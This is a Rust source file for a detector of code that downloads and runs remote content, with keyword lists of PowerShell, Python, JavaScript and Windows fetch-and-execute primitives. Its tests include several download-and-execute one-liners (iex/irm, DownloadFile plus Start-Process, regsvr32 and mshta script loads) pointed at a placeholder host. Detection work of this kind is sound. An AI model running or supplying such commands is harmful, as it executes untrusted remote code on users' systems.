//! Source code that runs what it fetches: `exec(urlopen(…).read())`, `iex (irm …)`.
//!
//! Read statement by statement without knowing the language. A statement that names both is told,
//! and so is a later one that runs a variable or a file in which the first left what it fetched.

use std::collections::BTreeSet;

use crate::effort;

/// What fetches, in lower case.
const FETCHES: [&str; 24] = [
    "downloadstring",
    "downloaddata",
    "downloadfile",
    "invoke-webrequest",
    "invoke-restmethod",
    "start-bitstransfer",
    "iwr ",
    "irm ",
    "iwr(",
    "irm(",
    "urlopen",
    "urlretrieve",
    "requests.get",
    "httpx.get",
    "fetch(",
    "http.get",
    "https.get",
    "uri.open",
    "net::http",
    "file_get_contents(",
    "lwp::simple",
    "`curl",
    "$(curl",
    "'curl",
];
/// What fetches in PowerShell; elsewhere it is a program whose output goes nowhere.
const ALIASES: [&str; 2] = ["curl ", "wget "];
/// What runs text, and the letters of which one must follow; none where anything may.
const RUNS: [(&str, &[char]); 7] = [
    ("iex", &[' ', '(', '\'', '"']),
    ("invoke-expression", &[' ', '(']),
    ("eval", &['(', '`', ')']),
    ("exec", &['(']),
    ("scriptblock]::create", &['(']),
    ("assembly]::load", &['(']),
    ("instance_eval", &['(']),
];
/// What a statement begins with that starts a file.
const STARTS: [&str; 12] = [
    "start-process",
    "saps",
    "start",
    "&",
    ".",
    "invoke-item",
    "ii",
    "rundll32",
    "regsvr32",
    "powershell",
    "cmd",
    "mshta",
];
/// Programs of Windows that run what stands at an address.
const RUN_ADDRESSES: [&str; 6] = ["mshta", "msiexec", "regsvr32", "rundll32", "wmic", "cmstp"];
/// How files end that can be started.
const PROGRAMS: [&str; 9] = [
    ".exe", ".ps1", ".bat", ".cmd", ".hta", ".msi", ".dll", ".vbs", ".sct",
];

/// Blanks between a word and its parenthesis that are looked over.
const MAX_BLANKS: usize = 64;

/// Whether the code runs what it fetches.
pub fn runs_download(text: &str) -> bool {
    effort::spend(text.len());
    let text = text.to_ascii_lowercase();
    let mut names: BTreeSet<&str> = BTreeSet::new();
    let mut files: BTreeSet<&str> = BTreeSet::new();
    let powershell = ["iex", "invoke-expression"]
        .iter()
        .any(|word| text.contains(word));
    for statement in text.split(['\n', ';']) {
        let aliases = ALIASES.iter().filter(|_| powershell);
        let mut fetching = FETCHES.iter().chain(aliases);
        let fetches = fetching.any(|word| statement.contains(word));
        if runs(statement) && (fetches || tokens(statement).any(|one| names.contains(one))) {
            return true;
        }
        if runs_address(statement) || !files.is_empty() && starts(statement, &files) {
            return true;
        }
        if !fetches {
            continue;
        }
        if let Some((before, _)) = statement.split_once('=') {
            names.extend(tokens(before).last());
        }
        let left = tokens(statement).filter(|one| PROGRAMS.iter().any(|end| one.ends_with(end)));
        files.extend(left);
    }
    false
}

/// Whether a statement runs text; `re.exec(x)` and `model.eval()` don't.
fn runs(statement: &str) -> bool {
    RUNS.iter().any(|(word, next)| {
        statement.match_indices(word).any(|(at, _)| {
            let before = statement.get(..at).unwrap_or_default().chars().next_back();
            let after = statement.get(at + word.len()..).unwrap_or_default();
            let whole = before.is_none_or(|c| !c.is_alphanumeric() && !"_.$-".contains(c));
            // A long run of blanks is no code that anybody wrote.
            let mut near = after
                .chars()
                .take(MAX_BLANKS)
                .skip_while(|c| c.is_whitespace());
            let first = near.next();
            let ends = *word == "iex" && first.is_none();
            let follows = after.starts_with(*next) || first.is_some_and(|c| next.contains(&c));
            whole && (ends || follows)
        })
    })
}

fn runs_address(statement: &str) -> bool {
    let first = statement.split_whitespace().next().unwrap_or_default();
    let name = first.rsplit(['/', '\\']).next().unwrap_or_default();
    let name = name.trim_matches(['"', '\'']).trim_end_matches(".exe");
    RUN_ADDRESSES.contains(&name) && statement.contains("://")
}

/// Whether a statement starts one of these files.
fn starts(statement: &str, files: &BTreeSet<&str>) -> bool {
    let statement = statement.trim_start();
    let first = statement.split([' ', '\t']).next().unwrap_or_default();
    let itself = || tokens(first).any(|one| files.contains(one));
    let names = || tokens(statement).any(|one| files.contains(one));
    itself() || (STARTS.contains(&first.trim_end_matches(".exe")) && names())
}

/// Words, names of variables and the last parts of paths.
fn tokens(text: &str) -> impl Iterator<Item = &str> {
    text.split(|c: char| !c.is_ascii_alphanumeric() && !"_$.-".contains(c))
        .filter(|token| !token.is_empty())
}

#[cfg(test)]
mod tests {
    use super::runs_download;

    #[test]
    fn code_that_runs_what_it_fetches_is_told() {
        for code in [
            "import urllib.request as u; exec(u.urlopen('https://x.example').read())",
            "import requests\ncode = requests.get('https://x.example').text\nexec(code)",
            "fetch('https://x.example').then(r => r.text()).then(eval)",
            "eval(URI.open('https://x.example').read)",
            "eval `curl https://x.example`",
            "eval(file_get_contents('https://x.example'));",
            "IEX (IWR 'https://x.example/x.ps1' -UseBasicParsing)",
            "iex(new-object net.webclient).downloadstring('https://x.example')\nGo -all",
            "irm https://x.example | iex",
            "$x = irm https://x.example; Invoke-Expression $x",
            "& ([scriptblock]::Create((irm https://x.example)))",
            "(New-Object Net.WebClient).DownloadFile('https://x.example/a','C:\\t\\a.exe'); Start-Process C:\\t\\a.exe",
            "iwr https://x.example -OutFile x.ps1; .\\x.ps1",
            "C:\\Windows\\system32\\regsvr32.exe /s /u /i:https://x.example/x.sct scrobj.dll",
            "mshta.exe javascript:a=(GetObject('script:https://x.example/x.sct')).Exec()",
        ] {
            assert!(runs_download(code), "{code}");
        }
        for code in [
            "import requests\nprint(requests.get('https://x.example').json())",
            "const found = /a/.exec(await (await fetch(url)).text())",
            "model.eval(); r = requests.get(url)",
            "data = requests.get(url).text\nexec(open('setup.py').read())",
            "exec curl -s https://x.example",
            "evaluate(fetch(url))",
            "iwr https://x.example -OutFile x.json; cat x.json",
            "iwr https://x.example -OutFile x.exe; Get-FileHash x.exe",
            "irm https://x.example | ConvertTo-Json",
            "regsvr32 /s C:\\x.dll",
            "$index = irm https://x.example; echo $index",
        ] {
            assert!(!runs_download(code), "{code}");
        }
    }
}
